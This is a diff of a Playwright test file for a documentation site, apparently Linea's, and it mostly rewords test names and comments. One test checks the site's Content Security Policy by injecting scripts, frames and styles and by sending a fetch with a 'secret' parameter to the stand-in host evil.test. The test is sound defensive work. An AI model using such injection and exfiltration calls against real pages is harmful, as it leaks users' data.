@@ -8,7 +8,7 @@ import {installWallets} from './wallets';
 test.skip(Boolean(whyNot), whyNot);
 test.describe.configure({timeout: 180_000});
 
-test('the page for what does not exist is drawn', async ({guarded: page, problems}) => {
+test('the 404 page is rendered', async ({guarded: page, problems}) => {
   expect((await page.goto('/no/such/page'))?.status()).toBe(404);
   await waitForHydration(page);
   await expect(page.getByRole('heading', {level: 1})).toHaveText('Page not found');
@@ -16,7 +16,7 @@ test('the page for what does not exist is drawn', async ({guarded: page, problem
   expect(problems.splice(0).filter((problem) => !/status of 404/.test(problem))).toEqual([]);
 });
 
-test('the search suggests, opens a result and marks its terms', async ({guarded: page}) => {
+test('the search shows suggestions, opens a result and highlights its terms', async ({guarded: page}) => {
   await open(page, '/');
   const box = page.getByRole('combobox', {name: 'Search', exact: true});
   await box.click();
@@ -40,7 +40,7 @@ test('the API explorer sends its request', async ({guarded: page}) => {
   expect(calls).toHaveLength(1);
 });
 
-test('a read of a contract is called at the public endpoint and at the reader’s own URL', async ({guarded: page}) => {
+test('a contract read works at the public endpoint and at a custom URL', async ({guarded: page}) => {
   const reply = replyRpc({result: `0x${'1'.padStart(64, '0')}`});
   const calls = await Promise.all(['https://rpc.linea.build/', 'https://own.test/v3/key'].map((url) => answerWith(page, url, reply)));
   await open(page, '/api/linea-smart-contracts/lib/pausemanager#ispaused');
@@ -55,7 +55,7 @@ test('a read of a contract is called at the public endpoint and at the reader’
   expect(calls.map(({length}) => length)).toEqual([1, 1]);
 });
 
-test('the playground calls the public endpoints and the reader’s own URL, also when the reader came from another page', async ({guarded: page}) => {
+test('the playground calls public endpoints and a custom URL, even after navigation from another page', async ({guarded: page}) => {
   const reply = replyRpc({result: {baseFeePerGas: '0x7', gasLimit: '0x5208', priorityFeePerGas: '0x43a82a4'}});
   const own = ['https://own.test/v3/key', 'http://localhost:8545/', 'http://127.0.0.1:8545/'];
   const calls = await Promise.all(['https://rpc.linea.build/', 'https://rpc.sepolia.linea.build/', ...own].map((url) => answerWith(page, url, reply)));
@@ -72,7 +72,7 @@ test('the playground calls the public endpoints and the reader’s own URL, also
   expect(calls.map(({length}) => length)).toEqual([1, 1, 1, 1, 1]);
 });
 
-test('the endpoint check reaches every endpoint it lists', async ({guarded: page}) => {
+test('the endpoint check can reach every listed endpoint', async ({guarded: page}) => {
   for (const {url, network} of openEndpoints) {
     await answerWith(page, `${url}/`, replyRpc({result: network === 'linea' ? '0xe708' : '0xe705'}));
   }
@@ -81,7 +81,7 @@ test('the endpoint check reaches every endpoint it lists', async ({guarded: page
   await expect(page.getByRole('status').filter({hasText: 'Done'})).toContainText(`${openEndpoints.length} of ${openEndpoints.length}`);
 });
 
-test('a wallet is asked to add the network, and its icon is shown', async ({guarded: page}) => {
+test('a wallet’s icon is shown, and the wallet is asked to add the network', async ({guarded: page}) => {
   const icon = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>';
   await installWallets(page, [{name: 'Fox', icon}, {name: 'Bear', icon}]);
   await open(page, '/get-started/connect');
@@ -91,20 +91,20 @@ test('a wallet is asked to add the network, and its icon is shown', async ({guar
   await expect(page.getByText('Linea Sepolia is added to Fox and selected.')).toBeVisible();
 });
 
-test('copying works, and a redirect that the browser makes arrives', async ({guarded: page, context, baseURL}) => {
+test('copying and client-side redirects work', async ({guarded: page, context, baseURL}) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
   await open(page, '/get-started/build/network-info');
   await page.getByRole('main').getByRole('button', {name: /copy/i}).first().click();
   await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).not.toBe('');
-  // nginx redirects by itself: the page for hosts that cannot is put in its place here.
+  // nginx redirects by itself, so serve the page for hosts that cannot.
   const policy = (await page.request.get(`${baseURL}/`)).headers()['content-security-policy'] ?? '';
   await page.route('**/architecture?*', (route) => route.fulfill({path: 'build/architecture/index.html', headers: {'content-security-policy': policy}}));
   await page.goto('/architecture?a=b#the-map', {waitUntil: 'commit'});
   await page.waitForURL('/technology/architecture?a=b#the-map');
 });
 
-test.describe('what the policy is for', () => {
-  test('injected scripts, event handlers, requests, frames and styles do nothing', async ({page}) => {
+test.describe('the policy blocks attacks', () => {
+  test('injected scripts, event handlers, requests, frames and styles have no effect', async ({page}) => {
     const foreign = await answerWith(page, 'https://evil.test/**', (route) => route.abort());
     await open(page, '/get-started');
     const results = await page.evaluate(async () => {
@@ -125,8 +125,8 @@ test.describe('what the policy is for', () => {
       style.textContent = 'body { display: none }';
       document.body.append(inline, remote, image, frame, base, style);
       await fetch('https://evil.test/?secret').catch(() => undefined);
-      // In a task of its own: the browser lets the test itself evaluate code.
-      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what the policy has to stop
+      // Run in a separate task, because the browser exempts code evaluated by the test from the policy.
+      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the policy must block this
       setTimeout('window.hit = 3');
       await new Promise((resolve) => setTimeout(resolve, 500));
       return {blocked: [...new Set(blocked)].sort(), hit: Reflect.get(window, 'hit')};
@@ -139,7 +139,7 @@ test.describe('what the policy is for', () => {
   });
 
   test('no page can be framed', async ({page}) => {
-    // A page of the same origin: the browser refuses other ones already because this server is local.
+    // Use a page of the same origin, because the browser blocks others anyway when the server is local.
     await page.route('**/framer', (route) => route.fulfill({contentType: 'text/html', body: '<iframe src="/get-started"></iframe>'}));
     const refused = page.waitForEvent('requestfailed', {predicate: (request) => request.url().endsWith('/get-started'), timeout: 15_000});
     await page.goto('/framer');
